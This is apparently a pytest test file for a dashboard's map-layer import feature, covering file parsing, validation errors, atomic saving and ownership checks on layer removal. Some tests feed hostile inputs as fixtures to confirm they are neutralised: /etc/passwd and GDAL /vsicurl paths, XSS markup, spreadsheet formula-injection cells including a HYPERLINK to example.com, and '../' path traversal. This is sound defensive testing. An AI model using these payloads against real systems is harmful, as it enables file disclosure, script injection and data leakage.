"""Imported layers: each accepted format becomes records the map, filters, table and export
use; every bad file is refused whole, with its row and field named; files are only ever read
from their bytes; the imports folder is shared by every server process."""

from __future__ import annotations

import base64
import io
import json
import os
import subprocess
import sys

import geopandas as gpd
import openpyxl
import pytest
from shapely.geometry import Point

from figures.fact_sheet import fact_sheet
from figures.table import table_rows
from figures.world_map import build_map, trace_names
from presence.errors import DataError
from presence.imported.examine import examine_layer
from presence.imported.folder import FOLDER, layer_files, remove_layer, save_layer
from presence.imported.reading import read_table, sniff
from presence.imported.rows import default_settings, layer_from_table
from presence.imported.settings import SETTINGS_SUFFIX, LayerSettings, layer_settings
from presence.live import LiveDataset, load_folder
from presence.loader import load_dataset
from presence.views import filter_records, parse_query
from tests.kept import what_is_kept

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))

SESSIONS = ("name;type;lat;lon;notes\n"
            "Maritime surveillance course;Training;-4,62;55,45;Seychelles coast guard\n"
            "Port security exercise;Exercise;-20,16;57,50;Port Louis\n"
            "First responders workshop;Training;-18,91;47,52;Antananarivo\n").encode()


def layer_of(data: bytes, dataset, name="file", **choices):
    table = read_table(data, name)
    settings = default_settings(table, name)
    if choices:
        settings = settings.model_copy(update=choices)
    return layer_from_table(table, settings, dataset, "import-test", name, "#CC79A7")


def problems_of(data: bytes, dataset, name="file", **choices) -> list[str]:
    with pytest.raises(DataError) as caught:
        layer_of(data, dataset, name, **choices)
    for problem in caught.value.problems:
        assert problem.file == name and problem.record and problem.field and problem.message
    return [str(problem) for problem in caught.value.problems]


def test_a_semicolon_csv_with_decimal_commas_becomes_points_in_their_countries(dataset):
    layer = layer_of(SESSIONS, dataset, "sessions.csv")
    records = layer.records
    assert list(records["name_en"]) == ["Maritime surveillance course", "Port security exercise",
                                        "First responders workshop"]
    assert list(records["lon"]) == [55.45, 57.5, 47.52] and list(records["lat"]) == [-4.62, -20.16, -18.91]
    assert list(records["host_iso3"]) == ["SYC", "MUS", "MDG"]
    assert set(records["layer"]) == {"imported-point"}
    assert list(layer.categories["label_en"]) == ["Training", "Exercise"]
    assert records["category"].tolist() == ["import-test--1", "import-test--2", "import-test--1"]
    # Every record says where it comes from: the file and its line; other columns kept.
    assert records["source_section"].tolist() == ["line 2", "line 3", "line 4"]
    assert records.iloc[0]["description"] == "notes: Seychelles coast guard"
    assert records["personnel"].isna().all() and records["in_force_from"].isna().all()


def test_a_country_column_becomes_areas_by_iso3_or_by_name_in_either_language(dataset):
    by_code = layer_of(b"title,iso3\nTraining network,MDG;MUS\nAudit,fji\n", dataset)
    assert list(by_code.records["countries"]) == [("MDG", "MUS"), ("FJI",)]
    assert set(by_code.records["layer"]) == {"imported-area"}
    by_name = layer_of("nom,pays\nAtelier,Maurice\nCours,Côte d'Ivoire\n".encode(), dataset)
    assert list(by_name.records["countries"]) == [("MUS",), ("CIV",)]


def test_an_excel_workbook_reads_its_first_sheet_and_names_rows_as_excel_does(dataset):
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Sessions"
    for row in (["Name", "Category", "Longitude", "Latitude"],
                ["Dakar seminar", "Seminar", -17.44, 14.69], ["Abidjan course", "Course", -4.01, 5.32]):
        sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    layer = layer_of(buffer.getvalue(), dataset, "sessions.xlsx")
    assert list(layer.records["host_iso3"]) == ["SEN", "CIV"]
    assert list(layer.records["source_section"]) == ["row 2", "row 3"]
    sheet.append(["Nowhere", "Course", "far", 3])
    buffer = io.BytesIO()
    book.save(buffer)
    assert problems_of(buffer.getvalue(), dataset, "sessions.xlsx") == [
        "sessions.xlsx: row 4, field 'Longitude': 'far' is not a number"]


def feature(geometry, **properties):
    return {"type": "Feature", "properties": properties, "geometry": geometry}


def geojson(*features) -> bytes:
    return json.dumps({"type": "FeatureCollection", "features": list(features)}).encode()


ANTICLOCKWISE_SQUARE = {"type": "Polygon",
                        "coordinates": [[[50, -20], [60, -20], [60, -10], [50, -10], [50, -20]]]}


def test_geojson_points_and_polygons_are_drawn_and_polygons_oriented_for_plotly(dataset):
    layer = layer_of(geojson(feature({"type": "Point", "coordinates": [2.35, 48.85]}, name="Paris"),
                             feature(ANTICLOCKWISE_SQUARE, name="Zone")), dataset, "drawn.geojson")
    point, zone = layer.records.iloc[0], layer.records.iloc[1]
    assert point["layer"] == "imported-point" and point["host_iso3"] == "FRA"
    assert zone["layer"] == "imported-area" and zone["shape"].geom_type == "MultiPolygon"
    assert not zone["shape"].geoms[0].exterior.is_ccw  # clockwise, or Plotly floods the globe
    assert "MDG" in zone["countries"]  # counts for the countries and regions it covers


@pytest.mark.parametrize("geometry,expected", [
    ({"type": "LineString", "coordinates": [[0, 0], [1, 1]]},
     "feature 1, field 'geometry': a LineString: only points and polygons are drawn"),
    ({"type": "Polygon", "coordinates": [[[0, 0], [2, 2], [2, 0], [0, 2], [0, 0]]]},
     "feature 1, field 'geometry': invalid polygon: Self-intersection"),
    ({"type": "Point", "coordinates": [200, 10]}, "feature 1, field 'geometry': (200, 10) is outside"),
    ({"type": "Polygon", "coordinates": [[[0, 0], [1]]]}, "feature 1, field 'geometry': malformed"),
    (None, "feature 1, field 'geometry': no geometry"),
])
def test_bad_geometries_are_refused_naming_the_feature(dataset, geometry, expected):
    found = problems_of(geojson(feature(geometry, name="x")), dataset, "drawn.geojson")
    assert len(found) == 1 and found[0].startswith(f"drawn.geojson: {expected}"), found


def test_a_geopackage_in_a_projected_crs_is_read_from_memory_and_reprojected(dataset, tmp_path):
    frame = gpd.GeoDataFrame({"nom": ["Brest", "Toulon"], "type": ["Port", "Port"]},
                             geometry=[Point(-4.49, 48.39), Point(5.93, 43.12)], crs="EPSG:4326")
    path = tmp_path / "ports.gpkg"
    frame.to_crs("EPSG:2154").to_file(path, driver="GPKG")  # Lambert-93, as French GIS use
    table = read_table(path.read_bytes(), "ports.gpkg")
    assert table.kind == "gpkg" and any("converted from RGF93" in note for note in table.notes)
    layer = layer_of(path.read_bytes(), dataset, "ports.gpkg")
    assert list(layer.records["host_iso3"]) == ["FRA", "FRA"]
    assert layer.records["lon"].round(2).tolist() == [-4.49, 5.93]


def test_geopackages_reach_gdal_as_a_buffer_never_as_a_path(dataset, tmp_path, monkeypatch):
    import pyogrio

    seen = []
    real = pyogrio.read_dataframe

    def spy(source, *args, **kwargs):
        seen.append(source)
        return real(source, *args, **kwargs)

    monkeypatch.setattr(pyogrio, "read_dataframe", spy)
    path = tmp_path / "one.gpkg"
    gpd.GeoDataFrame({"name": ["a"]}, geometry=[Point(1, 1)], crs=4326).to_file(path)
    # The reader itself, in this process (the server runs it in a child, out of the spy's sight).
    from presence.imported.reading import read_gpkg

    assert read_gpkg(path.read_bytes(), "one.gpkg").rows == ({"name": "a"},)
    assert seen and all(isinstance(source, io.BytesIO) for source in seen)
    layer = examine_layer(path.read_bytes(), "one.gpkg", dataset, None, "import-one")
    assert list(layer.records["name_en"]) == ["a"]  # and through the bounded child


@pytest.mark.parametrize("content", [b"/vsicurl/http://10.0.0.1/x.gpkg",
                                     b"/vsizip//etc/passwd.zip", b"https://example.org/a.csv"])
def test_a_path_or_url_given_as_a_file_is_only_text_never_opened(dataset, content):
    # Read as a one-line CSV with no row: nothing is fetched or opened.
    assert problems_of(content, dataset) == ["file: file, field '-': no row of data under the header"]


def test_only_bytes_are_read_never_a_path():
    with pytest.raises(TypeError):
        read_table("/etc/passwd", "x")


@pytest.mark.parametrize("data,expected", [
    (b"", "file: file, field '-': the file is empty"),
    (b"\x00\x01\x02\x03binary", "not a CSV, XLSX, GeoJSON or GeoPackage file"),
    (b"PK\x03\x04 not really a zip", "a damaged zip archive"),
    (b"SQLite format 3\x00" + b"\x00" * 100, "not a GeoPackage"),
    (b'{"type": "FeatureCollection", "features": {}}', "not a GeoJSON FeatureCollection"),
    (b'{"type": "Feature", ', "not valid JSON"),
    (b"name,lat,lon\nA,1,2\nB,1\n", "file: line 3, field '-': 2 fields, but the header has 3"),
    (b"name,lat,lon\n,1,2\n", "file: line 2, field 'name': empty: every record needs a label"),
    (b"name,lat,lon\nA,95,2\n", "file: line 2, field 'lat': 95 is outside -90..90"),
    (b"name,iso3\nA,XYZ\n", "file: line 2, field 'iso3': unknown iso3 code 'XYZ'"),
    (b"name,pays\nA,Atlantis\n", "file: line 2, field 'pays': unknown country name 'Atlantis'"),
    (b"name,where\nA,Paris\n", "nothing places the rows on the map"),
    (b"name,name,lat\nA,B,1\n", "file: header, field 'name': the column name is repeated"),
    ("name,type,lat,lon\n".encode() + b"".join(f"n{i},t{i},1,1\n".encode() for i in range(13)),
     "file: file, field 'type': 13 different values: at most 12 categories"),
    ("".join(f"c{i}," for i in range(600)).encode() + b"lat\n" + b"1," * 600 + b"1\n",
     "601 columns: at most 500"),
])
def test_bad_files_are_refused_whole_naming_row_and_field(dataset, data, expected):
    found = problems_of(data, dataset)
    assert any(expected in problem for problem in found), found


def test_windows_1252_and_utf16_spreadsheet_exports_are_read(dataset):
    text = "nom;lat;lon\nÉcole de Kaboul;34,5;69,2\n"
    for encoded, encoding in ((text.encode("cp1252"), "Windows-1252"),
                              (text.encode("utf-16"), "UTF-16")):
        table = read_table(encoded, "f.csv")
        assert table.notes[0].startswith(encoding)
        assert layer_of(encoded, dataset).records.iloc[0]["name_en"] == "École de Kaboul"


def test_the_type_comes_from_the_content_not_the_name(dataset, tmp_path):
    assert sniff(SESSIONS) == "csv" and sniff(geojson()) == "geojson"
    # A GeoJSON named .csv is read as GeoJSON.
    layer = layer_of(geojson(feature({"type": "Point", "coordinates": [2.35, 48.85]}, name="P")),
                     dataset, "misnamed.csv")
    assert layer.records.iloc[0]["host_iso3"] == "FRA"


def test_markup_in_imported_text_is_kept_as_text(dataset):
    layer = layer_of(b'name,type,lat,lon,notes\n"<img src=x onerror=alert(1)>",<b>x</b>,1.29,'
                     b'103.85,<script>alert(2)</script>\n', dataset)
    record = layer.records.iloc[0]
    assert record["name_en"] == "<img src=x onerror=alert(1)>"
    assert record["description"] == "notes: <script>alert(2)</script>"
    assert layer.categories.iloc[0]["label_en"] == "<b>x</b>"


@pytest.fixture
def folder_with_layer(geodata_copy):
    imports = geodata_copy.folder / FOLDER
    table = read_table(SESSIONS, "sessions.csv")
    settings = default_settings(table, "sessions.csv").model_copy(
        update={"name": "Training sessions", "source": "Liaison officer's list, Nov 2026"})
    save_layer(imports, SESSIONS, settings)
    return geodata_copy.folder


def test_a_saved_layer_is_a_theme_with_its_source_that_views_filter_and_export(folder_with_layer):
    dataset = load_dataset(folder_with_layer)
    theme = "import-sessions"
    assert dataset.themes.at[theme, "label_en"] == "Training sessions"
    assert dataset.sources.at[theme, "title"] == "Liaison officer's list, Nov 2026"
    assert dataset.sources.at[theme, "file"] == "imports/sessions.csv"
    view = parse_query(f"theme={theme}&region=indian-ocean", dataset)
    chosen = filter_records(dataset, view)
    assert list(chosen["name_en"]) == ["Maritime surveillance course", "Port security exercise",
                                       "First responders workshop"]
    rows = table_rows(dataset, chosen)
    assert rows[0]["theme"] == "Training sessions" and rows[0]["country"] == "Seychelles"
    assert rows[0]["source"] == "import-sessions: line 2"
    figure = build_map(dataset, view)
    names = trace_names(dataset)
    training = figure.data[names.index("category:import-sessions--1")]
    assert list(training.lon) == [55.45, 47.52] and training.name == "Training"
    sheet = fact_sheet(dataset, view, (1123, 794))
    assert {"Training", "Exercise"} <= {trace.name for trace in sheet.data if trace.showlegend}
    # Other layers and the data set's own records are untouched.
    assert len(load_dataset(folder_with_layer).records) == len(load_dataset(ROOT + "/geodata").records) + 3


def test_a_bad_file_in_the_folder_is_named_and_the_rest_still_loads(folder_with_layer):
    (folder_with_layer / FOLDER / "broken.csv").write_bytes(b"name,lat,lon\nA,1000,2\n")
    dataset = load_dataset(folder_with_layer)
    assert "import-sessions" in dataset.themes.index and "import-broken" not in dataset.themes.index
    assert [str(p) for p in dataset.import_problems] == [
        "imports/broken.csv: line 2, field 'lat': 1000 is outside -90..90"]
    result = subprocess.run([sys.executable, "app.py", "--data", str(folder_with_layer),
                             "check-data"], cwd=ROOT, capture_output=True, text=True)
    assert result.returncode == 1 and "imports/broken.csv: line 2, field 'lat'" in result.stderr


def test_every_process_sees_a_layer_another_added_or_removed(folder_with_layer):
    first, second = LiveDataset(folder_with_layer), LiveDataset(folder_with_layer)
    before = second.current()
    gj = geojson(feature(ANTICLOCKWISE_SQUARE, name="Zone", kind="Patrol"))
    table = read_table(gj, "zone.geojson")
    save_layer(first.imports, gj, default_settings(table, "zone.geojson"))
    second.current()  # sees the change and takes it in, in the background
    after = second.refresh()
    assert "import-zone" in after.themes.index and after.version != before.version
    assert second.current() is after  # unchanged folder: not read again
    remove_layer(first.imports, "zone.geojson")
    assert "import-zone" not in second.refresh().themes.index
    with pytest.raises(ValueError):
        remove_layer(first.imports, "../records.csv")


def test_a_crash_while_saving_leaves_no_half_written_layer(folder_with_layer, monkeypatch):
    imports = folder_with_layer / FOLDER
    before = sorted(path.name for path in imports.iterdir() if not path.name.startswith("."))

    def crash(_):
        raise OSError("disk gone")

    monkeypatch.setattr(os, "fsync", crash)
    with pytest.raises(OSError):
        save_layer(imports, SESSIONS, LayerSettings(name="x", label="name", source="s",
                                                    file="other.csv", imported="2026-11-23"))
    assert sorted(path.name for path in imports.iterdir()
                  if not path.name.startswith(".")) == before
    assert len(load_folder(imports, load_dataset(ROOT + "/geodata")).layers) == 1


def test_a_file_placed_by_hand_without_settings_gets_its_columns_guessed(geodata_copy):
    imports = geodata_copy.folder / FOLDER
    imports.mkdir(exist_ok=True)
    (imports / "ports.csv").write_bytes(b"Port,Kind,Latitude,Longitude\nBrest,Naval,48.39,-4.49\n")
    dataset = load_dataset(geodata_copy.folder)
    record = dataset.records.loc["import-ports-1"]
    assert record["name_en"] == "Brest" and dataset.categories.at[record["category"], "label_en"] == "Naval"
    assert dataset.sources.at["import-ports", "title"] == "File ports.csv"


def test_the_size_cap_is_configurable(folder_with_layer, monkeypatch):
    monkeypatch.setenv("DASHBOARD_MAX_IMPORT_MB", "0.0001")  # about 100 bytes
    dataset = load_dataset(folder_with_layer)
    assert "import-sessions" not in dataset.themes.index
    assert str(dataset.import_problems[0]) == ("imports/sessions.csv: file, field '-': 0.2 KB: "
                                               "larger than the 0.1 KB allowed "
                                               "(DASHBOARD_MAX_IMPORT_MB)")
    assert SETTINGS_SUFFIX == ".layer.json"


def test_downloaded_csv_keeps_formula_like_cells_as_text(dataset):
    import csv as csv_module

    from export.records import to_csv

    buffer = io.StringIO()
    writer = csv_module.writer(buffer)
    writer.writerows([["title", "lat", "lon", "notes"],
                      ['=HYPERLINK("http://example.com/?"&A1)', "-4.62", "55.45", "calc"],
                      ["@SUM(A1)", "-20.16", "57.5", "plain"],
                      ["+cmd|calc", "-18.91", "47.52", "plain"],
                      # A full-width equals sign: a spreadsheet runs it as a formula too.
                      ["＝HYPERLINK(\"http://example.com\")", "-21.1", "55.5", "plain"]])
    records = layer_of(buffer.getvalue().encode(), dataset, "formulas.csv").records
    rows = list(csv_module.DictReader(io.StringIO(to_csv(records))))
    assert rows[0]["name_en"] == "'=HYPERLINK(\"http://example.com/?\"&A1)"
    assert [row["name_en"] for row in rows[1:]] == ["'@SUM(A1)", "'+cmd|calc",
                                                     "'＝HYPERLINK(\"http://example.com\")"]
    assert rows[0]["lon"] == "55.45" and rows[0]["lat"] == "-4.62"  # numbers stay numbers
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row.values())


def test_a_file_of_broken_lines_stops_at_a_bounded_number_of_problems(dataset):
    from presence.errors import MAX_PROBLEMS

    broken = b"name,lat,lon\n" + b"only one field\n" * 500_000  # ~7.5 MB, every line wrong
    problems = problems_of(broken, dataset, "broken.csv")
    assert len(problems) == MAX_PROBLEMS + 1
    assert problems[0] == "broken.csv: line 2, field '-': 1 fields, but the header has 3"
    assert "reading stopped here" in problems[-1] and f"line {MAX_PROBLEMS + 1}" in problems[-1]
    # Rows that read but do not place: bounded the same way.
    bad_rows = b"name,lat,lon\n" + b"x,95,200\n" * 5_000
    assert len(problems_of(bad_rows, dataset, "rows.csv")) == MAX_PROBLEMS + 1


def test_a_removed_layer_goes_to_the_trash_is_logged_and_can_be_put_back(folder_with_layer, caplog):
    from presence.imported.folder import restore_layer

    imports = folder_with_layer / FOLDER
    live = LiveDataset(folder_with_layer)
    assert "import-sessions" in live.current().themes.index
    with caplog.at_level("WARNING", logger="dashboard.imports"):
        kept = remove_layer(imports, "sessions.csv", user="alice")
    assert "import-sessions" not in live.refresh().themes.index
    assert sorted(path.name for path in kept.iterdir()) == ["sessions.csv",
                                                            "sessions.csv.layer.json"]
    assert "sessions.csv removed by alice" in caplog.text and str(kept) in caplog.text
    restored = restore_layer(imports, kept)
    assert restored.name == "sessions.csv" and not kept.exists()
    assert "import-sessions" in live.refresh().themes.index  # with the choices made for it


def test_the_number_and_size_of_imported_layers_are_capped(folder_with_layer, monkeypatch):
    import presence.imported.folder as imports_module

    imports = folder_with_layer / FOLDER
    settings = LayerSettings(name="x", label="name", source="s", file="more.csv",
                             imported="2026-11-23")
    monkeypatch.setattr(imports_module, "MAX_TOTAL_BYTES", len(SESSIONS) * 2 - 1)
    with pytest.raises(DataError, match="at most 0 MB in all"):
        save_layer(imports, SESSIONS, settings)
    monkeypatch.setattr(imports_module, "MAX_TOTAL_BYTES", 10**9)
    monkeypatch.setattr(imports_module, "MAX_LAYERS", 2)
    save_layer(imports, SESSIONS, settings)  # the second layer
    with pytest.raises(DataError, match="2 imported layers already"):
        save_layer(imports, SESSIONS, settings)
    assert len(layer_files(imports)) == 2


def test_only_who_added_a_layer_or_an_administrator_removes_or_restores_it(folder_with_layer,
                                                                          monkeypatch):
    from presence.imported.folder import NotYours, restore_layer, trashed

    imports = folder_with_layer / FOLDER
    gj = geojson(feature(ANTICLOCKWISE_SQUARE, name="Zone", kind="Patrol"))
    settings = layer_settings("zone.geojson", "name", "kind", owner="alice")
    save_layer(imports, gj, settings)
    monkeypatch.setenv("DASHBOARD_ADMINS", "carol, dave")
    for stranger in ("bob", None):
        with pytest.raises(NotYours, match="added by alice: only alice or an administrator"):
            remove_layer(imports, "zone.geojson", user=stranger)
    assert (imports / "zone.geojson").exists()  # refused: nothing moved
    kept = remove_layer(imports, "zone.geojson", user="alice")
    with pytest.raises(NotYours):
        restore_layer(imports, kept, user="bob")
    assert restore_layer(imports, trashed(imports, kept.name), user="carol").exists()
    remove_layer(imports, "zone.geojson", user="dave")  # an administrator
    # A layer added without a login is anybody's.
    remove_layer(imports, "sessions.csv", user="bob")
    for forged in ("../records.csv", "..", "", kept.name + "x"):
        with pytest.raises(ValueError):
            trashed(imports, forged)


def test_the_panel_refuses_another_user_s_removal_and_offers_undo_to_the_owner(folder_with_layer):
    import json

    from werkzeug.security import generate_password_hash

    import ids
    from app import create_app
    from bench.payloads import payload

    imports = folder_with_layer / FOLDER
    gj = geojson(feature(ANTICLOCKWISE_SQUARE, name="Zone", kind="Patrol"))
    save_layer(imports, gj, layer_settings("zone.geojson", "name", "kind", owner="alice"))
    users = {name: generate_password_hash("pw") for name in ("alice", "bob")}
    client = create_app(folder_with_layer, users=users).server.test_client()

    def login(name):
        return {"Authorization": "Basic " + base64.b64encode(f"{name}:pw".encode()).decode()}

    layout = json.dumps(client.get("/_dash-layout", headers=login("bob")).get_json())
    assert "zone: 1 records (zone.geojson), added by alice" in layout
    callback = next(d for d in client.get("/_dash-dependencies", headers=login("bob")).get_json()
                    if d["output"].startswith(f"..{ids.IMPORTS_CHANGED}.data"))

    def click(kind, index, name):
        button = {"index": index, "type": kind}
        body = payload(callback, {}, json.dumps(button, separators=(",", ":")) + ".n_clicks")
        slot = 1 if kind == ids.IMPORT_REMOVE else 2
        body["inputs"][slot] = [{"id": button, "property": "n_clicks", "value": 1}]
        response = client.post("/_dash-update-component", json=body, headers=login(name))
        assert response.status_code == 200
        return response.get_json()["response"]

    refused = click(ids.IMPORT_REMOVE, "zone.geojson", "bob")
    assert refused[ids.IMPORT_STATUS]["children"] == (
        "Not removed: it was added by alice: only alice or an administrator can remove it")
    assert ids.IMPORTS_CHANGED not in refused and (imports / "zone.geojson").exists()
    removed = click(ids.IMPORT_REMOVE, "zone.geojson", "alice")
    assert not (imports / "zone.geojson").exists()
    status = removed[ids.IMPORT_STATUS]["children"]
    assert status[0] == "Layer removed."
    undo = status[2]["props"]["id"]
    assert undo["type"] == ids.IMPORT_UNDO
    assert click(ids.IMPORT_UNDO, undo["index"], "alice")[ids.IMPORT_STATUS]["children"] == \
        "Layer put back."
    assert (imports / "zone.geojson").exists()


def test_an_add_takes_its_layer_in_while_previews_hold_every_preview_turn(geodata_copy,
                                                                         tmp_path, monkeypatch):
    """Two hostile files previewed (their turns held): a colleague's add reads its file
    and takes its layer in on its own lane, before either preview ends."""
    import threading

    import presence.bounded as bounded
    from panels.bring_layer import add_answer

    monkeypatch.setattr(bounded, "TURNS_FOLDER", tmp_path)
    data = LiveDataset(geodata_copy.folder)
    kept = what_is_kept(geodata_copy.folder)
    held, done = threading.Barrier(3), threading.Event()

    def preview():
        with bounded.reading_turn("preview", "hostile.xlsx"):
            held.wait(10)
            done.wait(60)

    previews = [threading.Thread(target=preview) for _ in range(2)]
    for thread in previews:
        thread.start()
    held.wait(10)
    try:
        contents = "data:text/csv;base64," + base64.b64encode(SESSIONS).decode()
        version, status, *_ = add_answer(data, contents, "sessions.csv", "Sessions", "name",
                                         "type", "Liaison officer's list", "")
        assert status.startswith("Added"), status
        assert all(thread.is_alive() for thread in previews)  # both still hold their turns
    finally:
        done.set()
        for thread in previews:
            thread.join(10)
    assert "Maritime surveillance course" in set(data.current().records["name_en"])
    # Nothing lost: the briefings and every layer there was are as they were, the new one beside.
    after = what_is_kept(geodata_copy.folder)
    assert after["briefings"] == kept["briefings"] and after["records"] > kept["records"]
    assert kept["layers"].items() < after["layers"].items()
